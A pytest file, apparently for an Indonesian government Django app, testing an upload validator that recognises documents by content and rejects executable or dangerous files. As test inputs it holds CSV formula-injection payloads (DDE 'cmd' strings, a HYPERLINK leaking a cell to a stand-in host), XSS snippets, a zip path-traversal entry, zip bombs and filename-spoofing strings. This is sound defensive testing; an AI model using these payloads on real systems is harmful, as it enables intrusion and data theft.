"""Attachments in: recognised by content, nothing that can run."""

import hashlib
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from kominfo.lib.files import documents, packages
from tests.kominfo.lib.files.office import office, package
from tests.kominfo.lib.files.portable import pdf

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
ODT, ODS = (f"application/vnd.oasis.opendocument.{kind}" for kind in ("text", "spreadsheet"))


@pytest.mark.parametrize(
    ("content", "kind", "content_type", "extension"),
    [
        (pdf(), "PDF", "application/pdf", "pdf"),
        (b"\r\n" + pdf(), "PDF", "application/pdf", "pdf"),
        (office(WORD, "word/document.xml"), "DOCX", WORD, "docx"),
        (office(WORD, "word/document2.xml"), "DOCX", WORD, "docx"),
        (office(EXCEL, "xl/workbook.xml"), "XLSX", EXCEL, "xlsx"),
        (office(SLIDES, "ppt/presentation.xml"), "PPTX", SLIDES, "pptx"),
        (
            package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}),
            "ODT", "application/vnd.oasis.opendocument.text", "odt",
        ),
        (
            package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"}),
            "ODS", "application/vnd.oasis.opendocument.spreadsheet", "ods",
        ),
        (b'nama,jabatan\n"Ali, S.Pd.","baris\nlain"\nBudi,Sekda\n', "CSV", "text/csv; charset=utf-8", "csv"),
        (b"nama;jumlah\nTernate;3\nTidore;4\n", "CSV", "text/csv; charset=utf-8", "csv"),
        ("\ufeffSusunan acara – hari pertama".encode(), "TXT", "text/plain; charset=utf-8", "txt"),
    ],
)  # fmt: skip
def test_a_document_is_known_by_its_content(content, kind, content_type, extension):
    facts = documents.inspect(io.BytesIO(content))

    assert facts == documents.DocumentFacts(
        kind, content_type, extension, hashlib.sha256(content).hexdigest(), len(content)
    )


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"", "kosong"),
        (pdf().replace(b"%%EOF", b""), "PDF ini tidak utuh"),
        (b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n", "PDF ini tidak utuh"),
        (b"HTTP/1.1 200 OK\r\n\r\n" + pdf(), "ada data lain"),
        (rb"{\rtf1\ansi Rapat}", "Berkas RTF .* Di Word: File › Simpan Sebagai › .*dilampirkan: PDF, DOCX"),
        (b"%!PS-Adobe-3.0\n", "tidak dapat dilampirkan"),
        (b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "tidak dapat dilampirkan"),
        (
            office(WORD, "word/document.xml", **{"word/vbaProject.bin": "x"}),
            "memuat makro.*bukan jenis .*docm",
        ),
        (package({"Index/Document.iwa": "x"}), "File › Ekspor Ke › Word"),
        (office("application/vnd.ms-word.document.macroEnabled", "word/document.xml"), "memuat makro"),
        (office(WORD, "word/document.xml", **{"../../etc/cron.d/x": "x"}), "tidak dapat dilampirkan"),
        (package({"a.html": "<script>"}), "tidak dapat dilampirkan"),
        (package({"mimetype": "application/epub+zip"}), "tidak dapat dilampirkan"),
        (b"PK\x03\x04 rusak", "rusak"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "tanpa kata sandi"),
        (b"<!DOCTYPE html><p>x", "tidak dapat dilampirkan"),
        (b"\n\n <SVG onload=alert(1)>", "tidak dapat dilampirkan"),
        (b"teks biasa <script>alert(1)</script>", "tidak dapat dilampirkan"),
        (b"MZ\x90\x00\x03", "tidak dapat dilampirkan"),
        (b"\xff\xd8\xff\xe0foto", "tidak dapat dilampirkan"),
        ("teks Windows é".encode("cp1252"), "CSV UTF-8"),
        ("nama;kota\nCafé;Ternate\n".encode("utf-16"), "CSV UTF-8"),
        ("nama;kota\nTidore;Ternate\n".encode("utf-16-le"), "CSV UTF-8"),
    ],
)
def test_everything_else_is_refused_with_a_remedy(content, sentence):
    with pytest.raises(ValidationError, match=sentence):
        documents.inspect(io.BytesIO(content))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", "=SUM(A1:A2)", '=HYPERLINK("https://jahat.example?"&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+SUM(A1;A2)",
        "-2+3+cmd|' /C calc'!D2", "+webservice (A1)", "=cmd|' /C calc'!A0", '="a"&A1', "\t=1+1", " =A1", "=@A1", "＝1+1",
        "=-5", "- HYPERLINK (A1)",
    ],
)  # fmt: skip
def test_a_table_with_a_formula_is_refused_with_a_remedy(cell):
    for separator in ";,\t":
        for written in (cell, '"' + cell.replace('"', '""') + '"'):
            rows = f"nama{separator}nilai\nTernate{separator}{written}\n"
            file = io.BytesIO(rows.encode())
            file.name = "data.csv"
            with pytest.raises(ValidationError, match=r"memuat rumus .*baris 2.*tempel sebagai nilai"):
                documents.inspect(file)


@pytest.mark.parametrize(
    "cell",
    [
        "+62 812-3456-7890", "+628123456789", "-5", "-5,25", "-", "--", "@dinaskominfo", "- Rapat (tertutup)", "-Rapat", "====",
        "=>", '="00123"', "1=1", "a@b.id", "Rapat = selesai", "0821 (WA)", "- a | b",
    ],
)  # fmt: skip
def test_telephone_numbers_accounts_and_numbers_below_zero_stay_in_a_table(cell):
    for written in (cell, '"' + cell.replace('"', '""') + '"'):
        file = io.BytesIO(f"nama;nilai\nTernate;{written}\n".encode())
        assert documents.inspect(file).kind == "CSV"


def test_plain_text_is_no_table():
    file = io.BytesIO(b"=1+1\n")
    file.name = "catatan.txt"

    assert documents.inspect(file).kind == "TXT"


def test_a_zip_bomb_is_refused_unopened():
    bomb = office(WORD, "word/document.xml", **{"word/media/a": b"\0" * (packages.MAX_UNPACKED_BYTES + 1)})

    with pytest.raises(ValidationError, match="terlalu besar saat dibuka"):
        documents.inspect(io.BytesIO(bomb))


def test_a_file_over_25_mb_is_refused():
    with pytest.raises(ValidationError, match="paling besar 25 MB"):
        documents.inspect(io.BytesIO(b"x" * (documents.MAX_BYTES + 1)))


@pytest.mark.parametrize(
    ("content", "name", "extension"),
    [
        (b"a;b;c\n1;2\n3\n", "data.csv", "csv"),
        (b"nama\nAli\nBudi\n", "Daftar.CSV", "csv"),
        (b"Halo, dunia\nApa, kabar\n", "sapaan.txt", "txt"),
        (b"a;b\n1;2\n", "data.exe", "csv"),
    ],
)
def test_a_name_settles_only_whether_letters_are_a_table(content, name, extension):
    file = io.BytesIO(content)
    file.name = name

    assert documents.inspect(file).extension == extension


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Susunan Acara Rakor 8–10 Juli", "susunan-acara-rakor-810-juli.pdf"),
        ("../../etc/passwd\r\nX: y", "etcpasswd-x-y.pdf"),
        ("\u202efdp.exe", "fdpexe.pdf"),
        ("نص", "lampiran.pdf"),
        ("con", "lampiran-con.pdf"),
        ("a" * 300, "a" * 80 + ".pdf"),
    ],
)
def test_download_names_are_plain(title, expected):
    assert documents.safe_name(title, "pdf") == expected


def claiming(content, size):
    """The same package with another unpacked size for its last part in the directory."""
    start = content.rindex(b"PK\x01\x02") + 24
    return content[:start] + size.to_bytes(4, "little") + content[start + 4 :]


def test_a_package_that_unpacks_to_more_than_it_claims_is_refused():
    bomb = office(WORD, "word/document.xml", **{"word/media/a.bin": b"\0" * 300_000_000})

    with pytest.raises(ValidationError, match="rusak"):
        documents.inspect(io.BytesIO(claiming(bomb, 10)))


@pytest.mark.parametrize("method", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_package_with_a_damaged_part_is_refused(method):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("[Content_Types].xml", f'<Types ContentType="{WORD}.main+xml"/>')
        archive.writestr("word/document.xml", "<x/>" * 5000)
    content = bytearray(buffer.getvalue())
    start = content.index(b"word/document.xml") + 25
    content[start : start + 8] = b"\xff" * 8

    with pytest.raises(ValidationError, match="rusak"):
        documents.inspect(io.BytesIO(content))
